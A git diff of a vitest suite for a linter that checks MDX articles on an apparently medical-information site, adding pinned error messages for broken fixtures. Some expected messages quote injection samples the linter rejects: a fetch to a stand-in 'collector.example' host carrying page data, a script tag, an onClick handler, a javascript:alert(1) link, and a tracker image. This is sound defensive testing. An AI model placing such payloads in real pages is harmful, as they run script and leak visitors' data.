@@ -2,9 +2,9 @@ import fs from 'node:fs'
 import path from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { loadRegistry, parseRegistryFile } from '@/lib/citations/registry'
-import { formatFinding, sortFindings } from '@/lib/content/findings'
-import { scanCollection } from '@/lib/content/loader'
-import { checkFile } from '@/lib/content/pipeline'
+import { checkFile } from '@/lib/content/check'
+import { loadSite } from '@/lib/content/site'
+import { lines } from '../helpers/messages'
 
 /**
  * The bad-input corpus: one broken file per rule, each with the exact message an editor sees
@@ -17,6 +17,68 @@ const noCiteHint = (near: string) =>
   `a block may go uncited only for one of these reasons: question (a question for the reader to ask or think about), navigation (a pointer to another page or section of this site), about-site (a statement about this site, its sources or this page), checklist (a checklist line for the reader to tick or fill in); write it as {/* no-cite: question */}${near}. Advice and definitions are facts: cite them.`
 
 const ARTICLE_CASES: [string, string[]][] = [
+  [
+    'code-expression.mdx',
+    [
+      'content/articles/code-expression.mdx:29:1  error  mdx/expression  Code in content: {fetch(\'https://collector.example/?page=…}.\n    hint: content is text: write \\{ for a brace, and use {/* … */} only for comments such as no-cite.',
+    ],
+  ],
+  [
+    'code-import.mdx',
+    [
+      'content/articles/code-import.mdx:29:1  error  mdx/expression  An import or export statement in content.\n    hint: components need no import; remove the line.',
+    ],
+  ],
+  [
+    'component-prop-typo.mdx',
+    [
+      'content/articles/component-prop-typo.mdx:29:11  error  mdx/props  <CareCard> prop "level": expected one of non-urgent, urgent, emergency; found "urgnt".\n    hint: did you mean "urgent"?',
+    ],
+  ],
+  [
+    'component-unknown.mdx',
+    [
+      'content/articles/component-unknown.mdx:29:1  error  mdx/unknown-component  Unknown component <Calout>.\n    hint: did you mean "Callout"? The components you can use: Callout, CareCard, Checklist, Fig, RepositoryLink (docs/editing.md).',
+    ],
+  ],
+  [
+    'heading-reserved-id.mdx',
+    [
+      'content/articles/heading-reserved-id.mdx:29:1  error  headings/reserved-id  The heading id "references" is one the page itself uses.\n    hint: pin another id at the end of the heading, like [#about-the-references].',
+    ],
+  ],
+  [
+    'html-event-handler.mdx',
+    [
+      'content/articles/html-event-handler.mdx:29:8  error  mdx/attribute  The event handler "onClick" on <b>: content runs no script.\n    hint: remove it; behaviour belongs in the site, not in an article.',
+    ],
+  ],
+  [
+    'html-script.mdx',
+    [
+      'content/articles/html-script.mdx:29:1  error  mdx/html  The HTML element <script> is not allowed in content.\n    hint: pages run no script written in content (allowed: abbr, b, br, cite, em, i, kbd, mark, q, s, small, span, strong, sub, sup, time, u, wbr).',
+      'content/articles/html-script.mdx:29:9  error  mdx/expression  Code in content: {"console.log(1)"}.\n    hint: content is text: write \\{ for a brace, and use {/* … */} only for comments such as no-cite.',
+    ],
+  ],
+  [
+    'link-http.mdx',
+    [
+      'content/articles/link-http.mdx:29:6  error  links/scheme  A link with the "http:" scheme: http://example.org/trial\n    hint: use the https:// address: https://example.org/trial',
+    ],
+  ],
+  [
+    'link-javascript.mdx',
+    [
+      'content/articles/link-javascript.mdx:29:6  error  links/scheme  A link with the "javascript:" scheme: javascript:alert(1)\n    hint: links may use https:, mailto: or tel:, or a site path like /articles/side-effects/.',
+    ],
+  ],
+  [
+    'media-remote.mdx',
+    [
+      'content/articles/media-remote.mdx:29:1  error  media/remote  A file loaded from outside this site: https://tracker.example/chart.png\n    hint: put the file in public/ and use its site path, like /images/diagram.png: pages load nothing from another host.',
+    ],
+  ],
+
   [
     'bad-date.mdx',
     [
@@ -204,8 +266,7 @@ const ARTICLE_CASES: [string, string[]][] = [
 
 describe('bad articles fail with the pinned, located message', () => {
   it.each(ARTICLE_CASES)('%s', (name, expected) => {
-    const { findings } = checkFile(root, path.join(articles, name))
-    expect(findings.map(formatFinding)).toEqual(expected)
+    expect(lines(checkFile(root, path.join(articles, name)))).toEqual(expected)
   })
 
   it('covers every fixture in the folder', () => {
@@ -216,10 +277,10 @@ describe('bad articles fail with the pinned, located message', () => {
 
 describe('a valid article', () => {
   it('passes every rule with no findings at all', () => {
-    const { findings, analysis } = checkFile(root, path.join(articles, 'valid-article.mdx'))
-    expect(findings).toEqual([])
-    expect(analysis?.references.map((r) => r.id)).toEqual(['kryst2020', 'spravatoPI2025', 'berman2000'])
-    expect(analysis?.toc.map((t) => t.id)).toEqual(['how-fast-it-works', 'duration', 'where-it-is-given'])
+    const file = checkFile(root, path.join(articles, 'valid-article.mdx'))
+    expect(lines(file)).toEqual([])
+    expect(file.data.references?.map((r) => r.id)).toEqual(['kryst2020', 'spravatoPI2025', 'berman2000'])
+    expect(file.data.toc?.map((t) => t.id)).toEqual(['how-fast-it-works', 'duration', 'where-it-is-given'])
   })
 })
 
@@ -247,15 +308,15 @@ const LINK_CASES: [string, string[]][] = [
 describe('bad registry entries fail with the pinned, located message', () => {
   it.each(REGISTRY_CASES)('%s', (name, expected) => {
     const file = `tests/fixtures/registry/single/${name}`
-    const { findings, entries } = parseRegistryFile(fs.readFileSync(file, 'utf8'), file)
-    expect(findings.map(formatFinding)).toEqual([expected])
+    const { file: checked, entries } = parseRegistryFile(fs.readFileSync(file, 'utf8'), file)
+    expect(lines(checked)).toEqual([expected])
     expect(entries).toEqual([])
   })
 
   it.each(LINK_CASES)('%s', (name, expected) => {
     const file = `tests/fixtures/registry/single/${name}`
-    const { findings, entries } = parseRegistryFile(fs.readFileSync(file, 'utf8'), file)
-    expect(sortFindings(findings).map(formatFinding)).toEqual(expected)
+    const { file: checked, entries } = parseRegistryFile(fs.readFileSync(file, 'utf8'), file)
+    expect(lines(checked)).toEqual(expected)
     expect(entries).toHaveLength(1)
   })
 
@@ -263,13 +324,12 @@ describe('bad registry entries fail with the pinned, located message', () => {
     const file = 'tests/fixtures/registry/single/no-identifier.json'
     const entry = JSON.parse(fs.readFileSync(file, 'utf8'))[0]
     const explained = { ...entry, URL: 'https://pubmed.ncbi.nlm.nih.gov/', note: 'DOI and PMID not seen on any acceptable page.' }
-    const { findings } = parseRegistryFile(JSON.stringify([explained]), file)
-    expect(findings).toEqual([])
+    expect(parseRegistryFile(JSON.stringify([explained]), file).file.messages).toEqual([])
   })
 
   it('a duplicate id names both places', () => {
-    const { findings, entries } = loadRegistry(path.join(registryDir, 'duplicate-id'), path.resolve('.'))
-    expect(findings.map(formatFinding)).toEqual([
+    const { files, entries } = loadRegistry(path.join(registryDir, 'duplicate-id'), path.resolve('.'))
+    expect(files.flatMap(lines)).toEqual([
       'tests/fixtures/registry/duplicate-id/b.json:3:11  error  registry/duplicate-id  Duplicate reference id "berman2000".\n    hint: it is already defined at tests/fixtures/registry/duplicate-id/a.json:3:11; give one of them another id.',
     ])
     expect(entries.size).toBe(1)
@@ -278,8 +338,7 @@ describe('bad registry entries fail with the pinned, located message', () => {
 
 describe('content folders', () => {
   it('a duplicate slug is an error naming the other file', () => {
-    const { findings } = scanCollection(path.resolve('tests/fixtures/duplicate-slug'), 'articles')
-    expect(findings.map(formatFinding)).toEqual([
+    expect(loadSite(path.resolve('tests/fixtures/duplicate-slug')).files.flatMap(lines)).toEqual([
       'content/articles/side-effects.md:1:1  error  content/extension  Content files must end in .mdx, found "side-effects.md".\n    hint: rename it to side-effects.mdx.',
       'content/articles/side-effects.mdx:1:1  error  content/duplicate-slug  Duplicate slug "side-effects": content/articles/side-effects.md already uses this address.\n    hint: each file name becomes an address, so two files cannot share one (letter case and .md/.mdx are ignored); rename one.',
     ])
